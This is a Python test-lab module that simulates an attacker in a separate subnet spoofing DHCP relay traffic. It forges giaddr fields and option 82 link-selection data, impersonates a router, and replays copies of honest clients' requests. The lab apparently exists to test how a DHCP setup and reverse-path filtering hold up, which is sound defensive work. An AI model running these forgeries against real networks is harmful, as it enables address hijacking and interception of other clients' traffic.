# SPDX-License-Identifier: Apache-2.0
"""Another subnet behind a router of its own, an attacker in it, and what he makes of other clients' requests.

He has an accomplice on the victims' LAN, and the routers there are slow: so his copy of a request is always ahead.
"""

import select
import struct
import time

from beside import Beside
from frames import EVERYONE, address, ipv4
from honest import HONEST_MAC
from lab import relays
from lab.plan import SERVER
from lab.routers import Router
from wirelab import Tap

AHEAD = 0.5  # s
ATTACKER, NOBODY = "10.21.0.66", "10.20.0.66"  # the latter in the victims' subnet
_MAC = "02:00:00:21:00:66"
_BOOTP, _HOPS, _GIADDR = 42, 3, 24  # in an Ethernet frame; in BOOTP
_LINK_SELECTION = bytes((82, 6, 5, 4))  # RFC 3527, in option 82


class Elsewhere:
    """10.21.0.0/24 behind router C (.4, and 10.30.0.4), which has a relay as A and B have."""

    def __init__(self, lab):
        lab.switches.bridge("elsewhere")
        self.router = Router("C", 4, lab.namespace("routerC"), lab.switches, lab.folder, lan="elsewhere", network="10.21.0")
        self.router.start_relay(relays.dhcrelay)
        lab.server.ip("route", "add", "10.21.0.0/24", "via", self.router.wan_address)
        self.attacker = lab.host("attacker", _MAC, switch="elsewhere")
        self.attacker.up("eth0", f"{ATTACKER}/24")
        self.attacker.ip("route", "add", "default", "via", self.router.lan_address)
        self.accomplice = lab.host("accomplice", "02:00:00:21:00:67")
        for router in lab.routers.values():
            router.come_late(AHEAD)

    def filter_by_reverse_path(self):
        """Router C takes from its LAN only what comes from addresses that it would send to there (RFC 3704 s2.2)."""
        self.router.namespace.sysctl("net.ipv4.conf.lan.rp_filter", 1)

    def refused_by_reverse_path(self):
        """How many packets have been."""
        names, values = [line.split() for line in self.router.namespace.run("cat", "/proc/net/netstat").splitlines()
                         if line.startswith("TcpExt:")]
        return int(values[names.index("IPReversePathFilter")])

    def bootp_to_server(self, bootp, source=ATTACKER, check=0):
        """A frame to router C, which routes it to the server as it routes all else. `check`: of UDP; 0 is none."""
        udp = struct.pack("!HHHH", 67, 67, 8 + len(bootp), check) + bootp
        return ipv4(17, udp, source=source, to=SERVER, src=bytes.fromhex(_MAC.replace(":", "")),
                    dst=bytes.fromhex(f"0200002000{4:02x}"))


def _with_giaddr(bootp, giaddr):
    return bootp[:_HOPS] + b"\1" + bootp[_HOPS + 1:_GIADDR] + address(giaddr) + bootp[_GIADDR + 4:]


# What the attacker makes of a client's broadcast.
def as_his_own(elsewhere, frame):
    """The same broadcast in his own subnet: the relay there gives it its own giaddr."""
    return frame


def with_forged_giaddr(elsewhere, frame):
    """What a relay in the victims' subnet might have sent, from an address that is no relay's."""
    return elsewhere.bootp_to_server(_with_giaddr(frame[_BOOTP:], NOBODY))


def with_forged_link_selection(elsewhere, frame):
    """Giaddr is his own address; option 82 says that the client is in the victims' subnet."""
    bootp = _with_giaddr(frame[_BOOTP:], ATTACKER)
    options, end = bootp[240:], bootp.rindex(b"\xff") - 240
    return elsewhere.bootp_to_server(bootp[:240] + options[:end] + _LINK_SELECTION + address("10.20.0.0") + b"\xff")


def through_the_trusted_relay(elsewhere, frame):
    """A broadcast that bears a giaddr already. RFC 1542 s4.1.1: a relay leaves it as it is."""
    udp = frame[34:_BOOTP - 2] + b"\0\0" + _with_giaddr(frame[_BOOTP:], NOBODY)
    return ipv4(17, udp, source="0.0.0.0", to="255.255.255.255", dst=EVERYONE, src=frame[6:12])


def as_router_a(elsewhere, frame):
    """What router A itself will send, in its name; but with a checksum that is wrong, or the server's answer would go to A,
    which would bring it to the client: no harm."""
    return elsewhere.bootp_to_server(_with_giaddr(frame[_BOOTP:], "10.20.0.2"), source="10.30.0.2", check=0xBAD)


class Copier(Beside):
    """Sends a forgery of each honest client's request as soon as the client has sent it; and again every `again` s, until it
    sends another."""

    def __init__(self, elsewhere, forge, again=None):
        self._elsewhere, self._forge, self._again = elsewhere, forge, again
        self._latest = {}  # of each client: when to send it again, the forgery
        self.sent = 0

    def open(self):
        self._ear, self._mouth = Tap(self._elsewhere.accomplice, "eth0"), Tap(self._elsewhere.attacker, "eth0")

    def work(self):
        while not self.over.is_set():
            if select.select([self._ear], [], [], 0.02)[0]:
                self._hear(self._ear.receive_now())
            if self._again:
                self._repeat()

    def close(self):
        self._ear.close()
        self._mouth.close()

    def _hear(self, frame):
        chaddr = frame[_BOOTP + 28:_BOOTP + 34]
        if frame[36:38] == b"\0\x43" and chaddr.startswith(HONEST_MAC):
            self._send(chaddr, self._forge(self._elsewhere, frame))

    def _repeat(self):
        for chaddr, (due, forgery) in list(self._latest.items()):
            if time.monotonic() >= due:
                self._send(chaddr, forgery)

    def _send(self, chaddr, forgery):
        self._mouth.send(forgery)
        self.sent += 1
        self._latest[chaddr] = time.monotonic() + (self._again or 0), forgery
